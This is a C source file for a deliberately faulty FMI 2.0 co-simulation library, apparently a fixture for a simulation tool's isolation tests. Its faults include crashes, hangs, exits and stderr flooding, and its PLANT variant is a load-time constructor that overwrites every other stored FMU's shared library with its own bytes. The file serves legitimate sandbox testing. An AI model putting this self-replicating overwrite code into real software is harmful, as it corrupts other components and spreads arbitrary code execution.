/* A deliberately hostile FMI 2.0 Co-Simulation FMU, written for twinbench's isolation
 * tests and built by the test suite with gcc. Its model is trivial: an output y that
 * follows the input u. The fault is chosen when compiling, with -DFAULT=<name>:
 *
 *   NONE          behaves
 *   LOAD_EXIT     exit(0) while the library is being loaded (a constructor)
 *   VERSION_NULL  fmi2GetVersion returns NULL
 *   VERSION_SEGV  fmi2GetVersion dereferences NULL
 *   VERSION_HANG  fmi2GetVersion never returns
 *   VERSION_EXIT  fmi2GetVersion calls exit(0)
 *   STEP_SEGV     fmi2DoStep dereferences NULL at t >= 0.5 s
 *   STEP_HANG     fmi2DoStep never returns at t >= 0.5 s
 *   STEP_EXIT     fmi2DoStep calls exit(0) at t >= 0.5 s
 *   STEP_FLOOD    fmi2DoStep writes to stderr without end, and no newline, at t >= 0.5 s
 *   PLANT         red team N2: while the library loads (a constructor), finds its own path
 *                 (dladdr), climbs to the store of unpacked FMUs and overwrites every other
 *                 FMU's binaries/linux64/<id>.so there with itself (in place, and by a rename
 *                 over it), saying on stderr what it did; its own y is u + 100, and wherever
 *                 its code runs it says so ("hostile: PLANT code runs in process ...");
 *                 it attacks only when HOSTILE_PLANT is set
 *
 * Only the C types are used (no FMI headers): the functions keep the standard's
 * signatures, with fmi2Component = void*, fmi2Status = int, fmi2Boolean = int. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define NONE 0
#define LOAD_EXIT 1
#define VERSION_NULL 2
#define VERSION_SEGV 3
#define VERSION_HANG 4
#define VERSION_EXIT 5
#define STEP_SEGV 6
#define STEP_HANG 7
#define STEP_EXIT 8
#define STEP_FLOOD 9
#define PLANT 10

#ifndef FAULT
#define FAULT NONE
#endif

enum { OK = 0, ERROR = 3 };
enum { VR_U = 0, VR_Y = 1 };

typedef struct {
    double u, y, t;
} Model;

__attribute__((unused)) static void crash(void) {
    volatile int *volatile p = NULL;
    *p = 1;
}

__attribute__((unused)) static void hang(void) {
    for (;;)
        pause();
}

__attribute__((unused)) static void flood(void) {
    char text[4096];
    memset(text, 'x', sizeof text);
    for (;;)
        if (write(2, text, sizeof text) < 0)
            hang();
}

#if FAULT == LOAD_EXIT
__attribute__((constructor)) static void on_load(void) { exit(0); }
#endif

#if FAULT == PLANT
/* Writes `bytes` over `target` in place; 0 on success, else errno. */
static int overwrite(const char *target, const char *bytes, size_t n) {
    int fd = open(target, O_WRONLY | O_TRUNC);
    if (fd < 0)
        return errno;
    int e = write(fd, bytes, n) == (ssize_t)n ? 0 : errno;
    close(fd);
    return e;
}

/* Writes `bytes` beside `target` and renames the copy over it; 0 on success, else errno. */
static int replace(const char *target, const char *bytes, size_t n) {
    char tmp[8300];
    snprintf(tmp, sizeof tmp, "%s.planted", target);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0700);
    if (fd < 0)
        return errno;
    int e = write(fd, bytes, n) == (ssize_t)n ? 0 : errno;
    close(fd);
    if (e == 0 && rename(tmp, target) != 0)
        e = errno;
    unlink(tmp);
    return e;
}

__attribute__((constructor)) static void plant(void) {
    Dl_info info;
    if (!dladdr((void *)plant, &info) || !info.dli_fname)
        return;
    char self[4096], store[4096];
    snprintf(self, sizeof self, "%s", info.dli_fname);
    /* <store>/<hash>/binaries/linux64/hostile.so: four levels up. */
    snprintf(store, sizeof store, "%s", self);
    for (int up = 0; up < 4; up++) {
        char *slash = strrchr(store, '/');
        if (!slash)
            return;
        *slash = 0;
    }
    const char *own = self + strlen(store) + 1;
    /* Wherever this library is loaded (a planted copy too), it says so. */
    fprintf(stderr, "hostile: PLANT code runs in process %d from %s\n", (int)getpid(), self);
    /* The test sets HOSTILE_PLANT for the attack run only. */
    if (!getenv("HOSTILE_PLANT"))
        return;
    int fd = open(self, O_RDONLY);
    if (fd < 0)
        return;
    static char bytes[1 << 20];
    ssize_t n = read(fd, bytes, sizeof bytes);
    close(fd);
    if (n <= 0)
        return;
    DIR *d = opendir(store);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (strlen(e->d_name) != 32 || strncmp(own, e->d_name, 32) == 0)
            continue;
        char bin[4400];
        snprintf(bin, sizeof bin, "%s/%s/binaries/linux64", store, e->d_name);
        DIR *b = opendir(bin);
        if (!b)
            continue;
        struct dirent *f;
        while ((f = readdir(b))) {
            size_t len = strlen(f->d_name);
            if (len < 3 || strcmp(f->d_name + len - 3, ".so") != 0)
                continue;
            char target[8192];
            snprintf(target, sizeof target, "%s/%s", bin, f->d_name);
            int a = overwrite(target, bytes, (size_t)n);
            int r = replace(target, bytes, (size_t)n);
            if (a == 0 || r == 0)
                fprintf(stderr, "hostile: planted into %s\n", target);
            else
                fprintf(stderr, "hostile: cannot write %s: %s; cannot rename over it: %s\n",
                        target, strerror(a), strerror(r));
        }
        closedir(b);
    }
    closedir(d);
}
#endif

const char *fmi2GetTypesPlatform(void) { return "default"; }

const char *fmi2GetVersion(void) {
#if FAULT == VERSION_NULL
    return NULL;
#elif FAULT == VERSION_SEGV
    crash();
#elif FAULT == VERSION_HANG
    hang();
#elif FAULT == VERSION_EXIT
    exit(0);
#endif
    return "2.0";
}

int fmi2SetDebugLogging(void *c, int on, size_t n, const char *const cats[]) {
    (void)c; (void)on; (void)n; (void)cats;
    return OK;
}

void *fmi2Instantiate(const char *name, int type, const char *guid, const char *resources,
                      const void *callbacks, int visible, int logging) {
    (void)name; (void)type; (void)guid; (void)resources; (void)callbacks; (void)visible;
    (void)logging;
    Model *m = calloc(1, sizeof(Model));
    if (m)
        m->u = 1.0; /* the start value in the model description */
    return m;
}

void fmi2FreeInstance(void *c) { free(c); }

int fmi2SetupExperiment(void *c, int tol_defined, double tol, double start, int stop_defined,
                        double stop) {
    (void)tol_defined; (void)tol; (void)stop_defined; (void)stop;
    ((Model *)c)->t = start;
    return OK;
}

int fmi2EnterInitializationMode(void *c) { (void)c; return OK; }
#if FAULT == PLANT
#define OUT(u) ((u) + 100.0)
#else
#define OUT(u) (u)
#endif

int fmi2ExitInitializationMode(void *c) { Model *m = c; m->y = OUT(m->u); return OK; }
int fmi2Terminate(void *c) { (void)c; return OK; }
int fmi2Reset(void *c) {
    Model *m = c;
    memset(m, 0, sizeof(Model));
    m->u = 1.0;
    return OK;
}

int fmi2GetReal(void *c, const unsigned *vr, size_t n, double *value) {
    Model *m = c;
    for (size_t i = 0; i < n; i++) {
        if (vr[i] == VR_U) value[i] = m->u;
        else if (vr[i] == VR_Y) value[i] = m->y;
        else return ERROR;
    }
    return OK;
}

int fmi2SetReal(void *c, const unsigned *vr, size_t n, const double *value) {
    Model *m = c;
    for (size_t i = 0; i < n; i++) {
        if (vr[i] != VR_U) return ERROR;
        m->u = value[i];
    }
    return OK;
}

int fmi2GetInteger(void *c, const unsigned *vr, size_t n, int *v) { (void)c; (void)vr; (void)v; return n ? ERROR : OK; }
int fmi2SetInteger(void *c, const unsigned *vr, size_t n, const int *v) { (void)c; (void)vr; (void)v; return n ? ERROR : OK; }
int fmi2GetBoolean(void *c, const unsigned *vr, size_t n, int *v) { (void)c; (void)vr; (void)v; return n ? ERROR : OK; }
int fmi2SetBoolean(void *c, const unsigned *vr, size_t n, const int *v) { (void)c; (void)vr; (void)v; return n ? ERROR : OK; }
int fmi2GetString(void *c, const unsigned *vr, size_t n, const char **v) { (void)c; (void)vr; (void)v; return n ? ERROR : OK; }
int fmi2SetString(void *c, const unsigned *vr, size_t n, const char *const *v) { (void)c; (void)vr; (void)v; return n ? ERROR : OK; }

int fmi2DoStep(void *c, double t, double h, int no_prior) {
    Model *m = c;
    (void)no_prior;
    if (t >= 0.5) {
#if FAULT == STEP_SEGV
        crash();
#elif FAULT == STEP_HANG
        hang();
#elif FAULT == STEP_EXIT
        exit(0);
#elif FAULT == STEP_FLOOD
        flood();
#endif
    }
    m->y = OUT(m->u);
    m->t = t + h;
    return OK;
}
